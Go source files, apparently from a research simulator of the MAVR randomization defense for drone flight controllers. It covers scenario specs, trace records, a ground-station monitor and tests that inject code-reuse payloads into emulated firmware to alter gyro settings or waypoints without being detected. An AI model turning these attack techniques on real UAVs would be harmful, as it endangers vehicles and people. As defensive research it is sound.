			c := counters()
			r.Records = append(r.Records, Record{T: int64(sys.Now()), Kind: "checkpoint", Counters: &c})
			for nextCheckpoint <= sys.Now()-start {
				nextCheckpoint += spec.Checkpoint
			}
		}
	}

	v := Verdict{
		Compromised:   r.Mon.CompromiseDetected(spec.SilenceThreshold),
		VehicleSilent: r.Mon.VehicleSilent(spec.SilenceThreshold),
		BoardAlive:    sys.App.Running(),
		GyroCfg:       sys.App.CPU.Data[firmware.AddrGyroCfg],
		Final:         counters(),
	}
	if chaosOn {
		v.Health = r.Mon.Classify(spec.SilenceThreshold).String()
	}
	if sys.Master != nil {
		st := sys.Master.Stats()
		v.FailuresDetected = st.FailuresDetected
		v.Reflashes = len(sys.Reflashes())
		v.VerifyRejections = st.VerifyRejections
	}
	landedAll := false
	for _, s := range sends {
		if s.landed == nil {
			continue
		}
		if !s.landed(sys) {
			landedAll = false
			break
		}
		landedAll = true
	}
	v.AttackLanded = landedAll
	r.Verdict = v
	r.Records = append(r.Records, Record{T: int64(sys.Now()), Kind: "verdict", Verdict: &v})
	return r, nil
}

func buildSystem(spec Spec) (*board.System, error) {
	switch spec.Board {
	case BoardUnprotected:
		return board.NewSystem(board.SystemConfig{Unprotected: true}), nil
	case BoardSoftwareOnly:
		return board.NewSystem(board.SystemConfig{SoftwareOnly: true, SoftwareSeed: spec.Seed}), nil
	case BoardMAVR:
		return board.NewSystem(board.SystemConfig{Master: board.MasterConfig{
			Seed:            spec.Seed,
			WatchdogTimeout: spec.WatchdogTimeout,
			RandomizeEvery:  spec.RandomizeEvery,
			ProgramBaud:     spec.ProgramBaud,
			SkipVerify:      spec.SkipVerify,
		}}), nil
	}
	return nil, fmt.Errorf("scenario: unknown board mode %q", spec.Board)
}

// buildSends expands the injection plan into concrete payloads. The
// attacker analyzes the unprotected application binary (the paper's
// threat model: the stock image is public, the randomized one is not).
func buildSends(spec Spec, img *firmware.Image) ([]send, error) {
	if len(spec.Injections) == 0 {
		return nil, nil
	}
	a, err := attack.Analyze(img.ELF)
	if err != nil {
		return nil, err
	}
	// The synthesized chain is searched for once per Spec (it depends
	// only on the binary and the seed) and reused by every synth
	// injection.
	var synth *attack.Synthesis
	synthesize := func() (*attack.Synthesis, error) {
		if synth != nil {
			return synth, nil
		}
		s, err := attack.Synthesize(img.ELF, attack.SynthOptions{Stealth: true, Seed: spec.Seed})
		if err != nil {
			return nil, err
		}
		synth = s
		return s, nil
	}
	var sends []send
	for idx, inj := range spec.Injections {
		inj = inj.withDefaults()
		w := attack.Write{Addr: inj.Addr, Vals: [3]byte{inj.Value, 0, 0}}
		landedAt := func(addr uint16, val byte) func(*board.System) bool {
			return func(s *board.System) bool { return s.App.CPU.Data[addr] == val }
		}
		switch inj.Kind {
		case InjectV1:
			p, err := attack.BuildV1(a, w)
			if err != nil {
				return nil, fmt.Errorf("scenario: injection %d: %w", idx, err)
			}
			sends = append(sends, send{
				at:      inj.At,
				note:    fmt.Sprintf("v1 write 0x%04X=0x%02X", inj.Addr, inj.Value),
				payload: p,
				landed:  landedAt(inj.Addr, inj.Value),
			})
		case InjectV2:
			p, err := attack.BuildV2(a, w)
			if err != nil {
				return nil, fmt.Errorf("scenario: injection %d: %w", idx, err)
			}
			sends = append(sends, send{
				at:      inj.At,
				note:    fmt.Sprintf("v2 write 0x%04X=0x%02X", inj.Addr, inj.Value),
				payload: p,
				landed:  landedAt(inj.Addr, inj.Value),
			})
		case InjectV3:
			var big []attack.Write
			for i := 0; i < inj.StageWrites; i++ {
				big = append(big, attack.Write{
					Addr: inj.Addr + uint16(3*i),
					Vals: [3]byte{inj.Value, byte(i), byte(i + 100)},
				})
			}
			packets, err := attack.BuildV3(a, big, inj.StageAddr)
			if err != nil {
				return nil, fmt.Errorf("scenario: injection %d: %w", idx, err)
			}
			for i, p := range packets {
				sends = append(sends, send{
					at:      inj.At + time.Duration(i)*inj.Spacing,
					note:    fmt.Sprintf("v3 packet %d/%d stage 0x%04X", i+1, len(packets), inj.StageAddr),
					payload: p,
					landed:  landedAt(inj.Addr, inj.Value),
				})
			}
		case InjectSynth:
			s, err := synthesize()
			if err != nil {
				return nil, fmt.Errorf("scenario: injection %d: %w", idx, err)
			}
			if !s.Found {
				return nil, fmt.Errorf("scenario: injection %d: synthesis found no chain (%d attempts)", idx, s.Attempts)
			}
			p, err := s.PayloadFor(w)
			if err != nil {
				return nil, fmt.Errorf("scenario: injection %d: %w", idx, err)
			}
			grade := "landing"
			if s.Stealthy {
				grade = "stealthy"
			}
			note := fmt.Sprintf("synth %s load=0x%06X store=0x%06X", grade, s.Writer.LoadAddr, s.Writer.StoreAddr)
			if s.Pivot != nil {
				note += fmt.Sprintf(" pivot=0x%06X", s.Pivot.Addr)
			}
			note += fmt.Sprintf(" attempts=%d write 0x%04X=0x%02X", s.Attempts, inj.Addr, inj.Value)
			sends = append(sends, send{
				at:      inj.At,
				note:    note,
				payload: p,
				landed:  landedAt(inj.Addr, inj.Value),
			})
		case InjectProbe:
			p, err := attack.BuildV1(a.AssumeWriteMem(inj.Candidate), w)
			if err != nil {
				return nil, fmt.Errorf("scenario: injection %d: %w", idx, err)
			}
			sends = append(sends, send{
				at:      inj.At,
				note:    fmt.Sprintf("probe candidate 0x%06X write 0x%04X=0x%02X", inj.Candidate, inj.Addr, inj.Value),
				payload: p,
				// A probe is expected to miss; it never counts toward
				// AttackLanded.
			})
		default:
			return nil, fmt.Errorf("scenario: injection %d: unknown kind %q", idx, inj.Kind)
		}
	}
	sort.SliceStable(sends, func(i, j int) bool { return sends[i].at < sends[j].at })
	return sends, nil
}

// applyFaults packetizes the downlink byte stream into record-aligned
// datagrams and applies the chaos schedule, then the link fault
// schedule, per datagram: partitioned and corrupted datagrams vanish
// whole (pulse gaps and corruption drops, never garbage — corruption
// is caught by the transport checksum), dropped ones likewise, and
// duplicated ones are delivered twice back to back. It reports how
// many datagrams the partition and corruption schedules consumed.
func applyFaults(split *netlink.StreamSplitter, cfg netlink.SimConfig, ch chaos.Config, linkOn bool, seq *uint32, raw []byte) (out []byte, partitioned, corrupted int) {
	for _, rec := range split.Feed(raw) {
		s := *seq
		*seq++
		if ch.Partitioned(chaos.Down, 1, s) {
			partitioned++
			continue
		}
		if _, hit := ch.Corrupt(chaos.Down, 1, s); hit {
			corrupted++
			continue
		}
		if !linkOn {
			out = append(out, rec...)
			continue
		}
		fate := cfg.Fate("down", s)
		if fate.Drop {
			continue
		}
		for i := 0; i < fate.Copies; i++ {
			out = append(out, rec...)
		}
	}
	return out, partitioned, corrupted
}
