package scenario

import (
	"fmt"
	"strings"
)

// Divergence is a structured first-divergence report between a golden
// trace and a replay. Nil means byte-identical.
type Divergence struct {
	// Line is the 1-based line number of the first differing line.
	Line int `json:"line"`
	// Reason is "mismatch" (both traces have the line but it differs),
	// "truncated" (the replay ended before the golden trace) or
	// "extra" (the replay produced lines past the golden trace's end).
	Reason string `json:"reason"`
	// Golden and Got are the differing canonical lines ("" when one
	// side has no line).
	Golden string `json:"golden,omitempty"`
	Got    string `json:"got,omitempty"`
	// GoldenKind and GotKind are the parsed record kinds, when the
	// lines parse, for at-a-glance reports.
	GoldenKind string `json:"goldenKind,omitempty"`
	GotKind    string `json:"gotKind,omitempty"`
	// Invariant names the checked property that flagged this divergence
	// — golden-trace comparison reports "golden-identical"; the scengen
	// invariant layer reports its invariant's name. Sharing the field
	// means mavr-scenario verify and mavr-scengen emit the same
	// structured diff shape.
	Invariant string `json:"invariant,omitempty"`
	// Detail carries the invariant's explanation of the violation.
	Detail string `json:"detail,omitempty"`
}

func (d *Divergence) String() string {
	if d == nil {
		return "traces identical"
	}
	var sb strings.Builder
	if d.Invariant != "" {
		fmt.Fprintf(&sb, "invariant %s: ", d.Invariant)
	}
	fmt.Fprintf(&sb, "first divergence at line %d (%s)\n", d.Line, d.Reason)
	if d.Detail != "" {
		fmt.Fprintf(&sb, "  detail: %s\n", d.Detail)
	}
	if d.Golden != "" {
		fmt.Fprintf(&sb, "  golden: %s\n", d.Golden)
	} else {
		sb.WriteString("  golden: <end of trace>\n")
	}
	if d.Got != "" {
		fmt.Fprintf(&sb, "  got:    %s\n", d.Got)
	} else {
		sb.WriteString("  got:    <end of trace>\n")
	}
	return sb.String()
}

// Compare reports the first divergence between two canonical traces,
// or nil when they are byte-identical line for line. The report's
// Invariant is "golden-identical" — byte-identity is itself one of the
// checked properties, reported in the same shape as the scengen trace
// invariants.
func Compare(golden, got string) *Divergence {
	gl := splitLines(golden)
	ol := splitLines(got)
	n := len(gl)
	if len(ol) < n {
		n = len(ol)
	}
	for i := 0; i < n; i++ {
		if gl[i] != ol[i] {
			return &Divergence{
				Line:       i + 1,
				Reason:     "mismatch",
				Golden:     gl[i],
				Got:        ol[i],
				GoldenKind: kindOf(gl[i]),
				GotKind:    kindOf(ol[i]),
				Invariant:  InvariantGoldenIdentical,
			}
		}
	}
	switch {
	case len(gl) > len(ol):
		return &Divergence{Line: n + 1, Reason: "truncated", Golden: gl[n], GoldenKind: kindOf(gl[n]), Invariant: InvariantGoldenIdentical}
	case len(ol) > len(gl):
		return &Divergence{Line: n + 1, Reason: "extra", Got: ol[n], GotKind: kindOf(ol[n]), Invariant: InvariantGoldenIdentical}
	}
	return nil
}

// InvariantGoldenIdentical names the byte-identity property Compare
// checks, so its reports carry an invariant name like every other
// checked property.
const InvariantGoldenIdentical = "golden-identical"

func splitLines(s string) []string {
	s = strings.TrimRight(s, "\n")
	if s == "" {
		return nil
	}
	return strings.Split(s, "\n")
}

// kindOf extracts the "kind" field from a canonical line without a
// full parse (best effort; "" when absent).
func kindOf(line string) string {
	const key = `"kind":"`
	i := strings.Index(line, key)
	if i < 0 {
		return ""
	}
	rest := line[i+len(key):]
	j := strings.IndexByte(rest, '"')
	if j < 0 {
		return ""
	}
	return rest[:j]
}
