package scenario

import (
	"bufio"
	"encoding/json"
	"fmt"
	"io"
	"strings"
)

// Record is one canonical trace line. Field order (= JSON key order) is
// part of the wire format: encoding/json emits struct fields in
// declaration order, so a trace is byte-stable as long as this struct
// is.
type Record struct {
	// T is the simulated time of the event in nanoseconds.
	T int64 `json:"t"`
	// Kind labels the event: boot, randomized, failure-detected,
	// reflash, fault, inject, seq-gap, link-gap, garbage, frame-error,
	// heartbeat, raw-imu, param-echo, corrupt-drop, link-outage,
	// checkpoint, verdict.
	Kind string `json:"kind"`
	// Note carries the human-readable detail (board event notes,
	// injection descriptions).
	Note string `json:"note,omitempty"`
	// N is a counter delta for monitor events.
	N int `json:"n,omitempty"`
	// Payload is the FNV-1a digest of an injected packet's bytes — it
	// pins the exact attack payload into the trace, so any change to an
	// attack constant diverges here even before behaviour changes.
	Payload string `json:"payload,omitempty"`
	// Counters is set on checkpoint records.
	Counters *Counters `json:"counters,omitempty"`
	// Verdict is set on the final record.
	Verdict *Verdict `json:"verdict,omitempty"`
}

// Counters is a snapshot of every monitor counter plus the defense
// epoch, taken at each checkpoint and embedded in the verdict.
type Counters struct {
	Pulses      int   `json:"pulses"`
	SeqGaps     int   `json:"seqGaps"`
	LinkGaps    int   `json:"linkGaps"`
	Garbage     int   `json:"garbage"`
	Heartbeats  int   `json:"heartbeats"`
	FrameErrors int   `json:"frameErrors"`
	RawIMUs     int   `json:"rawImus"`
	ParamEchoes int   `json:"paramEchoes"`
	MaxSilence  int64 `json:"maxSilenceNs"`
	// Epoch is the number of randomizations performed so far (0 on
	// boards without a master): the re-randomization epoch counter.
	Epoch int `json:"epoch"`
	// LinkOutages, CorruptDrops and MaxLinkSilence are the chaos-era
	// link-degradation counters. They are omitempty — always zero
	// without a chaos schedule — so pre-chaos golden traces stay
	// byte-identical.
	LinkOutages    int   `json:"linkOutages,omitempty"`
	CorruptDrops   int   `json:"corruptDrops,omitempty"`
	MaxLinkSilence int64 `json:"maxLinkSilenceNs,omitempty"`
}

// Verdict is the scenario's outcome: the ground station's detection
// verdict, the attack's effect on the vehicle, and the master's
// lifetime statistics.
type Verdict struct {
	// Compromised is the monitor's CompromiseDetected verdict at the
	// configured silence threshold.
	Compromised bool `json:"compromised"`
	// VehicleSilent is the silence-only signal.
	VehicleSilent bool `json:"vehicleSilent"`
	// AttackLanded reports whether every non-probe injection's write is
	// present in the vehicle's data space at scenario end.
	AttackLanded bool `json:"attackLanded"`
	// BoardAlive reports whether the application processor still runs.
	BoardAlive bool `json:"boardAlive"`
	// GyroCfg is the gyro configuration byte — the paper's
	// demonstration write target.
	GyroCfg byte `json:"gyroCfg"`
	// FailuresDetected, Reflashes and VerifyRejections are master
	// counters (zero without a master).
	FailuresDetected int `json:"failuresDetected"`
	Reflashes        int `json:"reflashes"`
	VerifyRejections int `json:"verifyRejections"`
	// Health is the monitor's graded gcs.Health verdict
	// (ok/degraded/link-dead/vehicle-dead/compromised). Only populated
	// when the scenario runs a chaos schedule, so pre-chaos golden
	// traces stay byte-identical.
	Health string `json:"health,omitempty"`
	// Final is the monitor state at scenario end.
	Final Counters `json:"final"`
}

// AppendTrace writes records as canonical JSONL.
func AppendTrace(w io.Writer, recs []Record) error {
	bw := bufio.NewWriter(w)
	for _, r := range recs {
		line, err := json.Marshal(r)
		if err != nil {
			return err
		}
		if _, err := bw.Write(line); err != nil {
			return err
		}
		if err := bw.WriteByte('\n'); err != nil {
			return err
		}
	}
	return bw.Flush()
}

// TraceString renders records as the canonical JSONL byte stream.
func TraceString(recs []Record) string {
	var sb strings.Builder
	if err := AppendTrace(&sb, recs); err != nil {
		// json.Marshal of Record cannot fail (no unsupported types) and
		// strings.Builder never errors.
		panic(err)
	}
	return sb.String()
}

// ParseTrace reads canonical JSONL back into records.
func ParseTrace(r io.Reader) ([]Record, error) {
	var recs []Record
	sc := bufio.NewScanner(r)
	sc.Buffer(make([]byte, 0, 64*1024), 1<<20)
	line := 0
	for sc.Scan() {
		line++
		txt := strings.TrimSpace(sc.Text())
		if txt == "" {
			continue
		}
		var rec Record
		if err := json.Unmarshal([]byte(txt), &rec); err != nil {
			return nil, fmt.Errorf("trace line %d: %w", line, err)
		}
		recs = append(recs, rec)
	}
	if err := sc.Err(); err != nil {
		return nil, err
	}
	return recs, nil
}

// TraceDigest is the FNV-1a 64-bit digest of the canonical trace bytes
// — the fingerprint mavr-scengen prints per seed, making a whole sweep
// comparable with one line per scenario.
func TraceDigest(recs []Record) string {
	return fnvDigest([]byte(TraceString(recs)))
}

// fnvDigest is the FNV-1a 64-bit hash of b, hex-encoded — the payload
// fingerprint embedded in inject records.
func fnvDigest(b []byte) string {
	h := uint64(0xcbf29ce484222325)
	for _, c := range b {
		h ^= uint64(c)
		h *= 0x100000001b3
	}
	return fmt.Sprintf("%016x", h)
}
