// Package scenario is the deterministic end-to-end harness that proves
// the paper's attack→detection→recovery story as one replayable
// artifact. A Spec declares a complete experiment — board build,
// firmware profile, downlink fault schedule, timed attack injections,
// defense toggles and a run length in simulated time — and Run drives
// board.System + the netlink fault model + gcs.Monitor from that single
// description, emitting a canonical JSONL trace of every observable
// event: boots, randomization epochs, watchdog verdicts, reflashes,
// faults, injected packets, per-frame MAVLink arrivals, pulse/link
// gaps, garbage, periodic counter checkpoints and a final verdict.
//
// Everything downstream of the Spec is a pure function of it: the
// firmware generator, the randomizing master, the attack payload
// builder, the link fault schedule (netlink.SimConfig.Fate) and the
// single-goroutine runner are all seeded, wall-clock-free and
// map-iteration-free (enforced by the determinism vettool — this
// package is in its deterministic set). Two runs of the same Spec
// therefore produce byte-identical traces on any machine, under -race,
// at any GOMAXPROCS — which is what makes the checked-in golden traces
// in testdata/golden conformance tests rather than flaky snapshots:
// any divergence from golden is a behaviour change, never noise.
package scenario

import (
	"fmt"
	"time"

	"mavr/internal/board"
	"mavr/internal/firmware"
)

// Spec declares one scenario. The zero value of every field has a
// sensible default (see withDefaults); a Spec is fully serializable so
// scenarios can also be loaded from JSON.
type Spec struct {
	// Name identifies the scenario (and its golden trace file).
	Name string `json:"name"`
	// Notes documents what the scenario demonstrates.
	Notes string `json:"notes,omitempty"`

	// Board selects the build: "unprotected" (the attack target
	// baseline), "software-only" (the §VIII-A strawman) or "mavr" (the
	// full defense).
	Board string `json:"board"`
	// App is the firmware profile name: "testapp" (default),
	// "arduplane", "arducopter" or "ardurover".
	App string `json:"app,omitempty"`
	// Seed drives every random choice in the scenario: the master's
	// permutation source (or the software-only flash-time permutation).
	Seed int64 `json:"seed"`

	// WatchdogTimeout, RandomizeEvery and ProgramBaud tune the master
	// (zero = board defaults). SkipVerify disables the pre-flash static
	// verifier.
	WatchdogTimeout time.Duration `json:"watchdogTimeoutNs,omitempty"`
	RandomizeEvery  int           `json:"randomizeEvery,omitempty"`
	ProgramBaud     int           `json:"programBaud,omitempty"`
	SkipVerify      bool          `json:"skipVerify,omitempty"`

	// Run is the simulated flight time after boot.
	Run time.Duration `json:"runNs"`
	// Step is the monitor feeding quantum (default 10ms).
	Step time.Duration `json:"stepNs,omitempty"`
	// Checkpoint is the counter-snapshot interval (default 500ms).
	Checkpoint time.Duration `json:"checkpointNs,omitempty"`
	// SilenceThreshold is the ground station's vehicle-silent alarm
	// threshold (default 200ms).
	SilenceThreshold time.Duration `json:"silenceThresholdNs,omitempty"`

	// Link is the downlink fault schedule. The zero value is a perfect
	// serial link; any impairment switches the transport to
	// record-aligned datagrams and the monitor to TolerateLinkLoss.
	Link LinkSpec `json:"link,omitempty"`

	// Chaos is the deterministic chaos schedule layered under the link
	// faults: contiguous partition outages and in-flight datagram
	// corruption, drawn from internal/chaos with this Spec's Seed. Like
	// Link, any impairment switches the transport to record-aligned
	// datagrams and the monitor to TolerateLinkLoss.
	Chaos ChaosSpec `json:"chaos,omitempty"`

	// Injections are the attacker's timed packets.
	Injections []Injection `json:"injections,omitempty"`

	// Observe, when set, is invoked with the assembled system after the
	// firmware is flashed and before the first boot — test
	// instrumentation (e.g. the VSA soundness oracle hooks the emulator
	// and the master's randomization path here). Never serialized; the
	// canonical trace is unaffected as long as the hook only observes.
	Observe func(*board.System) `json:"-"`
}

// LinkSpec is the deterministic downlink fault schedule, applied per
// record-aligned datagram via netlink.SimConfig.Fate.
type LinkSpec struct {
	// DropRate is the datagram loss probability in [0, 1].
	DropRate float64 `json:"dropRate,omitempty"`
	// DupRate is the probability a datagram is delivered twice.
	DupRate float64 `json:"dupRate,omitempty"`
}

// Active reports whether the schedule impairs traffic at all.
func (l LinkSpec) Active() bool { return l.DropRate > 0 || l.DupRate > 0 }

// ChaosSpec is the scenario-facing slice of the chaos engine: the link
// faults a single-goroutine replay can realize (board faults need the
// live supervised fleet; see cmd/mavr-chaos). Partitions drop whole
// windows of consecutive datagrams — a contiguous radio outage, which
// the monitor must charge to the link, never the vehicle.
type ChaosSpec struct {
	// PartitionRate is the per-window probability the downlink is dark
	// for a whole window of consecutive datagrams.
	PartitionRate float64 `json:"partitionRate,omitempty"`
	// PartitionWindow is the window length in datagram sequence numbers
	// (default 64).
	PartitionWindow int `json:"partitionWindow,omitempty"`
	// CorruptRate is the per-datagram probability of in-flight byte
	// damage; the transport checksum turns every hit into whole-datagram
	// loss, surfaced to the monitor as a corruption drop.
	CorruptRate float64 `json:"corruptRate,omitempty"`
}

// Active reports whether the chaos schedule impairs traffic at all.
func (c ChaosSpec) Active() bool { return c.PartitionRate > 0 || c.CorruptRate > 0 }

// Injection is one timed attack from the malicious ground station.
type Injection struct {
	// At is the send time, measured in sim time from the end of boot.
	At time.Duration `json:"atNs"`
	// Kind selects the payload generation: "v1" (§IV-C crash-after
	// write), "v2" (§IV-D stealthy clean return), "v3" (§IV-E
	// trampoline) or "probe" (§VIII-A blind gadget guess at Candidate).
	Kind string `json:"kind"`
	// Addr is the data-space address of the 3-byte write (default
	// firmware.AddrGyroCfg).
	Addr uint16 `json:"addr,omitempty"`
	// Value is the first written byte.
	Value byte `json:"value"`
	// StageWrites is the number of 3-byte writes a v3 attack stages
	// (default 4); StageAddr is the staging area (default
	// firmware.AddrFreeMem); Spacing separates the staged packets
	// (default 30ms).
	StageWrites int           `json:"stageWrites,omitempty"`
	StageAddr   uint16        `json:"stageAddr,omitempty"`
	Spacing     time.Duration `json:"spacingNs,omitempty"`
	// Candidate is the word address a "probe" assumes the write_mem
	// gadget lives at.
	Candidate uint32 `json:"candidate,omitempty"`
}

// Board modes.
const (
	BoardUnprotected  = "unprotected"
	BoardSoftwareOnly = "software-only"
	BoardMAVR         = "mavr"
)

// Injection kinds.
const (
	InjectV1    = "v1"
	InjectV2    = "v2"
	InjectV3    = "v3"
	InjectProbe = "probe"
	// InjectSynth delivers a coverage-guided synthesized chain
	// (attack.Synthesize) instead of a hand-authored V1/V2 layout: the
	// payload comes from whatever pivot/writer shapes the search found,
	// seeded by the Spec's Seed.
	InjectSynth = "synth"
)

func (s Spec) withDefaults() Spec {
	if s.Board == "" {
		s.Board = BoardUnprotected
	}
	if s.App == "" {
		s.App = "testapp"
	}
	if s.Step == 0 {
		s.Step = 10 * time.Millisecond
	}
	if s.Checkpoint == 0 {
		s.Checkpoint = 500 * time.Millisecond
	}
	if s.SilenceThreshold == 0 {
		s.SilenceThreshold = 200 * time.Millisecond
	}
	if s.Run == 0 {
		s.Run = time.Second
	}
	return s
}

// Effective is the Spec with every defaulted field resolved — exactly
// what Run executes. Trace invariants evaluate against the effective
// Spec so guards can read Step/Checkpoint/Run without re-deriving the
// defaults.
func (s Spec) Effective() Spec { return s.withDefaults() }

// appSpec resolves the firmware profile name.
func (s Spec) appSpec() (firmware.AppSpec, error) {
	if s.App == "" || s.App == "testapp" {
		return firmware.TestApp(), nil
	}
	for _, p := range firmware.Profiles() {
		if p.Name == s.App {
			return p, nil
		}
	}
	return firmware.AppSpec{}, fmt.Errorf("scenario: unknown app profile %q", s.App)
}

func (i Injection) withDefaults() Injection {
	if i.Addr == 0 {
		i.Addr = firmware.AddrGyroCfg
	}
	if i.StageWrites == 0 {
		i.StageWrites = 4
	}
	if i.StageAddr == 0 {
		i.StageAddr = firmware.AddrFreeMem
	}
	if i.Spacing == 0 {
		i.Spacing = 30 * time.Millisecond
	}
	return i
}
