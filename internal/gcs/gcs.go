// Package gcs simulates the ground station side of the MAVR scenario:
// a benign station that monitors the UAV's telemetry for signs of
// compromise, and a malicious station (the paper's Fig. 3 attack
// vector) that injects attack frames over the same link.
//
// Stealthiness in the paper means the ground station cannot tell an
// attack happened: telemetry keeps flowing, sequence numbers stay
// continuous, heartbeats validate and report an active vehicle, and no
// garbage appears on the link. The Monitor encodes exactly those
// checks.
package gcs

import (
	"time"

	"mavr/internal/board"
	"mavr/internal/mavlink"
)

// GroundStation drives one UAV over the telemetry link.
type GroundStation struct {
	Sys *board.System
	Mon Monitor
	seq byte
}

// NewGroundStation connects a station to a vehicle.
func NewGroundStation(sys *board.System) *GroundStation {
	return &GroundStation{Sys: sys}
}

// Step advances the simulation and ingests whatever telemetry arrived.
func (g *GroundStation) Step(d time.Duration) error {
	if err := g.Sys.Run(d); err != nil {
		return err
	}
	g.Mon.Feed(g.Sys.DrainGCS(), g.Sys.Now())
	return nil
}

// Fly advances the simulation in monitor-friendly 10ms steps.
func (g *GroundStation) Fly(d time.Duration) error {
	const step = 10 * time.Millisecond
	for e := time.Duration(0); e < d; e += step {
		if err := g.Step(step); err != nil {
			return err
		}
	}
	return nil
}

// SendFrame transmits a MAVLink frame to the UAV (oversize frames
// permitted: a malicious or compromised station does not respect the
// 255-byte limit).
func (g *GroundStation) SendFrame(f *mavlink.Frame) {
	f.Seq = g.seq
	g.seq++
	g.Sys.SendToUAV(f.MarshalOversize())
}

// SetParam sends a legitimate PARAM_SET.
func (g *GroundStation) SetParam(name string, value float32) {
	ps := &mavlink.ParamSet{ParamID: name, ParamValue: value, TargetSystem: 1}
	g.SendFrame(&mavlink.Frame{MsgID: mavlink.MsgIDParamSet, SysID: 255, Payload: ps.Marshal()})
}
