package gcs_test

import (
	"testing"
	"time"

	"mavr/internal/attack"
	"mavr/internal/board"
	"mavr/internal/firmware"
	"mavr/internal/gcs"
	"mavr/internal/mavlink"
)

const silenceThreshold = 200 * time.Millisecond

func testImage(t *testing.T) *firmware.Image {
	t.Helper()
	img, err := firmware.Generate(firmware.TestApp(), firmware.ModeMAVR)
	if err != nil {
		t.Fatal(err)
	}
	return img
}

func unprotectedStation(t *testing.T, img *firmware.Image) *gcs.GroundStation {
	t.Helper()
	sys := board.NewSystem(board.SystemConfig{Unprotected: true})
	if err := sys.FlashFirmware(img); err != nil {
		t.Fatal(err)
	}
	if _, err := sys.Boot(); err != nil {
		t.Fatal(err)
	}
	return gcs.NewGroundStation(sys)
}

func fly(t *testing.T, g *gcs.GroundStation, d time.Duration) {
	t.Helper()
	step := 10 * time.Millisecond
	for elapsed := time.Duration(0); elapsed < d; elapsed += step {
		if err := g.Step(step); err != nil {
			t.Fatal(err)
		}
	}
}

func TestBenignFlightLooksClean(t *testing.T) {
	img := testImage(t)
	g := unprotectedStation(t, img)
	g.SetParam("RATE_RLL_P", 2.0)
	fly(t, g, 500*time.Millisecond)
	if g.Mon.Pulses < 10 {
		t.Fatalf("only %d pulses", g.Mon.Pulses)
	}
	if g.Mon.CompromiseDetected(silenceThreshold) {
		t.Errorf("false positive: garbage=%d gaps=%d silence=%v",
			g.Mon.Garbage, g.Mon.SeqGaps, g.Mon.MaxSilence)
	}
}

// The headline stealth result: a V2 attack corrupts the gyroscope
// configuration while the ground station observes nothing abnormal.
func TestStealthyAttackIsInvisibleToGCS(t *testing.T) {
	img := testImage(t)
	a, err := attack.Analyze(img.ELF)
	if err != nil {
		t.Fatal(err)
	}
	payload, err := attack.BuildV2(a, attack.GyroCfgWrite(0x40))
	if err != nil {
		t.Fatal(err)
	}
	g := unprotectedStation(t, img)
	fly(t, g, 200*time.Millisecond)

	g.SendFrame(attack.Frame(payload))
	fly(t, g, 500*time.Millisecond)

	if got := g.Sys.App.CPU.Data[firmware.AddrGyroCfg]; got != 0x40 {
		t.Fatalf("gyro config = 0x%02X, attack did not land", got)
	}
	if g.Mon.CompromiseDetected(silenceThreshold) {
		t.Errorf("stealthy attack detected: garbage=%d gaps=%d silence=%v",
			g.Mon.Garbage, g.Mon.SeqGaps, g.Mon.MaxSilence)
	}
	// The corrupted sensor value propagates into telemetry (raw 10 + 0x40).
	if g.Mon.LastGyro != 10+0x40 {
		t.Errorf("reported gyro = %d, want %d", g.Mon.LastGyro, 10+0x40)
	}
}

// The paper's abstract: a stealthy attacker can "modify the UAV
// navigation path". Overwrite the active waypoint's coordinates via a
// V2 chain: the commanded heading changes, the heartbeats stay valid
// and active, and the ground station detects nothing.
func TestStealthyNavigationPathChange(t *testing.T) {
	img := testImage(t)
	a, err := attack.Analyze(img.ELF)
	if err != nil {
		t.Fatal(err)
	}
	g := unprotectedStation(t, img)
	fly(t, g, 300*time.Millisecond)
	origHeading := g.Mon.LastHeading

	// Rewrite waypoint 0's latitude low byte (and neighbours) so the
	// derived heading flips.
	wp := img.Layout.WaypointsAddr
	newLat := origHeading ^ 0xFF // guarantees a different lat^lon
	payload, err := attack.BuildV2(a, attack.Write{Addr: wp, Vals: [3]byte{newLat, 0, 0}})
	if err != nil {
		t.Fatal(err)
	}
	g.SendFrame(attack.Frame(payload))
	fly(t, g, 500*time.Millisecond)

	if g.Mon.LastHeading == origHeading {
		t.Error("heading unchanged — navigation path not modified")
	}
	if g.Mon.CompromiseDetected(silenceThreshold) {
		t.Errorf("navigation attack detected: garbage=%d gaps=%d hbErr=%d silence=%v",
			g.Mon.Garbage, g.Mon.SeqGaps, g.Mon.HeartbeatErrors, g.Mon.MaxSilence)
	}
	if g.Mon.Heartbeats == 0 || g.Mon.LastStatus != mavlink.StateActive {
		t.Errorf("heartbeats=%d status=%d after attack", g.Mon.Heartbeats, g.Mon.LastStatus)
	}
}

// V1 (the non-stealthy variant) kills the board; the ground station
// sees the telemetry stop — exactly the detectability the paper's V2
// removes.
func TestV1AttackIsDetectedByGCS(t *testing.T) {
	img := testImage(t)
	a, err := attack.Analyze(img.ELF)
	if err != nil {
		t.Fatal(err)
	}
	payload, err := attack.BuildV1(a, attack.GyroCfgWrite(0x40))
	if err != nil {
		t.Fatal(err)
	}
	g := unprotectedStation(t, img)
	fly(t, g, 200*time.Millisecond)
	g.SendFrame(attack.Frame(payload))
	fly(t, g, 800*time.Millisecond)

	if !g.Mon.CompromiseDetected(silenceThreshold) {
		t.Errorf("V1 crash not detected: garbage=%d gaps=%d silence=%v pulses=%d",
			g.Mon.Garbage, g.Mon.SeqGaps, g.Mon.MaxSilence, g.Mon.Pulses)
	}
}

// On a MAVR board the stale attack fails; the master reflashes and the
// vehicle recovers in-flight (§V-D safe recovery).
func TestMAVRBoardRecoversUnderAttack(t *testing.T) {
	img := testImage(t)
	a, err := attack.Analyze(img.ELF)
	if err != nil {
		t.Fatal(err)
	}
	payload, err := attack.BuildV2(a, attack.GyroCfgWrite(0x40))
	if err != nil {
		t.Fatal(err)
	}
	sys := board.NewSystem(board.SystemConfig{Master: board.MasterConfig{
		Seed:            4,
		WatchdogTimeout: 20 * time.Millisecond,
	}})
	if err := sys.FlashFirmware(img); err != nil {
		t.Fatal(err)
	}
	if _, err := sys.Boot(); err != nil {
		t.Fatal(err)
	}
	g := gcs.NewGroundStation(sys)
	fly(t, g, 100*time.Millisecond)
	g.SendFrame(attack.Frame(payload))
	fly(t, g, 4*time.Second)

	if sys.Master.Stats().FailuresDetected == 0 {
		t.Fatal("master never detected the failed attack")
	}
	if got := sys.App.CPU.Data[firmware.AddrGyroCfg]; got == 0x40 {
		t.Error("attack landed despite randomization")
	}
	// Post-recovery telemetry must flow again.
	before := g.Mon.Pulses
	fly(t, g, 200*time.Millisecond)
	if g.Mon.Pulses <= before {
		t.Error("no telemetry after recovery")
	}
}

